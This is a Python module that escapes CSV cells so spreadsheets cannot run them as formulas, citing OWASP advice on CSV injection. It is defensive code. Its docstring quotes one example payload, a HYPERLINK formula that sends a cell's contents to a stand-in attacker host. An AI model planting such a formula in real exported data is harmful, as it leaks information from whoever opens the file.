"""CSV that a spreadsheet opens as it should: cells that cannot run as formulas, no NUL, and a
byte-order mark so Excel reads UTF-8.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is a
formula to Excel, LibreOffice and Google Sheets: a payload value such as
``=HYPERLINK("http://evil.example/?"&A1)`` would run in the admin's spreadsheet when the results
file is opened. Such a text cell gets a leading apostrophe, which every spreadsheet shows as "this
is text" and hides (OWASP's advice for CSV injection). Numbers are not text and stay as they
are. A NUL character, which spreadsheets cut cells at and Python 3.10's ``csv`` cannot write, is
written as the two characters ``\\0``.
"""

from __future__ import annotations

from typing import Any

#: What Excel needs at the start of a file to read it as UTF-8.
BOM = "\ufeff"
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows as text (see the module); non-text as is."""
    if not isinstance(value, str) or not value:
        return value
    if "\x00" in value:
        value = value.replace("\x00", "\\0")
    if value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value
